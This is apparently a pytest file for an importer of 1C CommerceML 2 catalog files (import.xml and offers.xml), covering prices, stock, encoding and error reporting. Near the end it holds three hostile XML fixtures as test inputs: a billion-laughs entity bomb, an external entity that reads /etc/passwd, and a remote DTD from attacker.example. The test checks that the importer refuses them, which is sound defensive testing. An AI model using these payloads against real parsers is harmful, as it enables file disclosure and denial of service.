"""CommerceML 2 from 1C: import.xml (classifier, goods) with offers.xml (prices, quantities)."""

from sqlalchemy import select

from server.db import get_session
from server.models import Category, MovementKind, PriceChange, Product, Stock, StockMovement
from tests.server.imports.conftest import FILES, snapshot, write

PAIR = (str(FILES / "import.xml"), str(FILES / "offers.xml"))


def test_a_pair_from_1c_creates_goods_with_groups_specs_prices_and_store_stock(app, world, cli):
    run = cli("import", "catalog", *PAIR)
    assert run.code == 0, run.lines
    assert "товаров создано: 2" in run.lines
    assert "Загрузка выполнена." in run.lines
    assert "100%" in run.progress  # the terminal saw the progress
    with app.app_context():
        session = get_session()
        phones = session.scalars(select(Product).where(Product.sku == "HP-100")).one()
        assert phones.name_ru == "Наушники беспроводные Звук 100"
        assert phones.brand == "Звук"
        assert phones.price_minor == 599_050  # the retail price, not the wholesale one
        assert phones.category.name_ru == "Наушники"  # a nested group is its own category
        assert ["Цвет", "Чёрный"] in phones.specs["ru"]  # a reference value, named
        assert ["Время работы", "30 ч"] in phones.specs["ru"]
        watch_id = "e8a3f5b3-7c1d-11e8-80d9-00155d01a200"
        watch = session.scalars(select(Product).where(Product.external_id == watch_id)).one()
        assert watch.sku == watch_id  # no Артикул: the Ид is the SKU
        assert watch.brand == "Пульс"  # from the "Производитель" property
        on_hand = {
            (row.store_id, row.product_id): row.on_hand for row in session.scalars(select(Stock))
        }
        assert on_hand[(world.store.id, phones.id)] == 7  # the warehouse named MSK-1
        assert on_hand[(world.store.id, world.products["TV-1"].id)] == 9  # found by Артикул
        tv_prices = session.scalars(
            select(PriceChange).where(PriceChange.product_id == world.products["TV-1"].id)
        ).all()
        assert [(p.old_price_minor, p.new_price_minor, p.document) for p in tv_prices] == [
            (5_499_000, 5_299_000, "offers.xml")
        ]
        kinds = session.scalars(
            select(StockMovement.kind).where(StockMovement.product_id == phones.id)
        )
        assert list(kinds) == [MovementKind.IMPORTED]


def test_imported_goods_are_found_by_search(app, world, cli, terminal):
    assert cli("import", "catalog", *PAIR).code == 0
    found = terminal.get("/products", q="беспроводные наушники").get_json()["items"]
    assert "HP-100" in [item["sku"] for item in found]


def test_importing_the_same_pair_again_changes_nothing(app, world, cli):
    assert cli("import", "catalog", *PAIR).code == 0
    before = snapshot(app)
    again = cli("import", "catalog", *PAIR)
    assert again.code == 0
    assert snapshot(app) == before  # no new price history, no stock movements
    assert "товаров создано: 0" in again.lines and "цен изменено: 0" in again.lines


def test_a_dry_run_checks_and_counts_but_changes_nothing(app, world, cli):
    before = snapshot(app)
    run = cli("import", "catalog", *PAIR, "--dry-run")
    assert run.code == 0
    assert "товаров создано: 2" in run.lines
    assert "Проверка: ничего не изменено." in run.lines
    assert snapshot(app) == before


def test_windows_1251_files_are_read_by_their_declared_encoding(app, world, cli, tmp_path):
    paths = []
    for name in ("import.xml", "offers.xml"):
        text = (
            (FILES / name).read_text("utf-8").replace('encoding="UTF-8"', 'encoding="windows-1251"')
        )
        paths.append(str(write(tmp_path, name, text, "cp1251")))
    assert cli("import", "catalog", *paths).code == 0
    with app.app_context():
        names = get_session().scalars(select(Category.name_ru)).all()
        assert {"Электроника", "Наушники", "Умные часы"} <= set(names)


def test_each_bad_element_is_one_line_with_its_line_and_nothing_is_applied(
    app, world, cli, tmp_path
):
    good = (FILES / "import.xml").read_text("utf-8")
    broken = good.replace(
        "<Наименование>Умные часы Пульс 2</Наименование>", "<Наименование></Наименование>"
    )
    offers = (FILES / "offers.xml").read_text("utf-8")
    offers = offers.replace(
        "<ЦенаЗаЕдиницу>12490.00</ЦенаЗаЕдиницу>", "<ЦенаЗаЕдиницу>12 490,001</ЦенаЗаЕдиницу>"
    )
    offers = offers.replace('КоличествоНаСкладе="7"', 'КоличествоНаСкладе="seven"')
    before = snapshot(app)
    run = cli(
        "import",
        "catalog",
        str(write(tmp_path, "import.xml", broken)),
        str(write(tmp_path, "offers.xml", offers)),
    )
    assert run.code == 1
    assert len(run.lines) == 3, run.lines
    assert any(
        line.startswith("import.xml, строка ")
        and "Товар e8a3f5b3-7c1d-11e8-80d9-00155d01a200" in line
        and "наименование: пусто" in line
        for line in run.lines
    ), run.lines
    assert any("offers.xml, строка" in line and "доли копейки" in line for line in run.lines)
    assert any(
        "Предложение e8a3f5b2" in line and "«seven» — не число" in line for line in run.lines
    )
    assert snapshot(app) == before


def test_problems_speak_english_when_asked(world, cli, tmp_path):
    assert cli("import", "catalog", *PAIR).code == 0
    broken = (
        (FILES / "offers.xml").read_text("utf-8").replace("<Ид>tv-1-in-1c</Ид>", "<Ид>nobody</Ид>")
    )
    broken = broken.replace("<Артикул>TV-1</Артикул>", "")
    run = cli("import", "catalog", str(write(tmp_path, "offers.xml", broken)), "--lang", "en")
    assert run.code == 1
    assert run.lines == [
        f"offers.xml, line {_line_of(broken, '<Ид>nobody</Ид>') - 1}, Предложение nobody: "
        "there is no good with this Ид in import.xml or in the catalog"
    ]


def _line_of(text: str, needle: str) -> int:
    return text[: text.index(needle)].count("\n") + 1


def test_an_offer_for_a_new_good_needs_a_price(app, world, cli, tmp_path):
    offers = (FILES / "offers.xml").read_text("utf-8")
    start = offers.index("<Цены>", offers.index("e8a3f5b3"))
    offers = offers[:start] + offers[offers.index("</Цены>", start) + len("</Цены>") :]
    run = cli(
        "import", "catalog", str(FILES / "import.xml"), str(write(tmp_path, "offers.xml", offers))
    )
    assert run.code == 1
    assert len(run.lines) == 1 and "в offers.xml нет его розничной цены" in run.lines[0]


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<КоммерческаяИнформация><Каталог><Товары><Товар><Ид>1</Ид><Наименование>&lol4;</Наименование></Товар></Товары></Каталог></КоммерческаяИнформация>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<КоммерческаяИнформация><Каталог><Товары><Товар><Ид>1</Ид><Наименование>&xxe;</Наименование></Товар></Товары></Каталог></КоммерческаяИнформация>
"""
REMOTE_DTD = """<?xml version="1.0"?>
<!DOCTYPE КоммерческаяИнформация SYSTEM "http://attacker.example/evil.dtd">
<КоммерческаяИнформация><Каталог><Товары/></Каталог></КоммерческаяИнформация>
"""
HOSTILE = {
    "billion laughs": BILLION_LAUGHS,
    "external entity": EXTERNAL_ENTITY,
    "remote DTD": REMOTE_DTD,
}


def test_hostile_xml_is_refused_with_a_clear_reason_and_nothing_applied(app, world, cli, tmp_path):
    before = snapshot(app)
    for label, text in HOSTILE.items():
        run = cli("import", "catalog", str(write(tmp_path, "import.xml", text)))
        assert run.code == 1, label
        assert len(run.lines) == 1, (label, run.lines)
        assert run.lines[0].startswith("import.xml, строка 2: отклонено ради безопасности"), (
            run.lines
        )
        assert "root:" not in run.lines[0]  # nothing of /etc/passwd
    assert "http://attacker.example/evil.dtd" in run.lines[0]
    assert snapshot(app) == before


def test_a_file_that_is_not_xml_from_1c_is_refused(world, cli, tmp_path):
    run = cli(
        "import",
        "catalog",
        str(write(tmp_path, "import.xml", "<?xml version='1.0'?><html><body/></html>")),
    )
    assert run.code == 1
    assert run.lines == [
        "import.xml, строка 1: это не файл CommerceML из 1С (его корневой элемент <html>)"
    ]
    cut = (FILES / "import.xml").read_text("utf-8")[:3000]
    run = cli("import", "catalog", str(write(tmp_path, "import.xml", cut)))
    assert run.code == 1 and "XML повреждён" in run.lines[0]
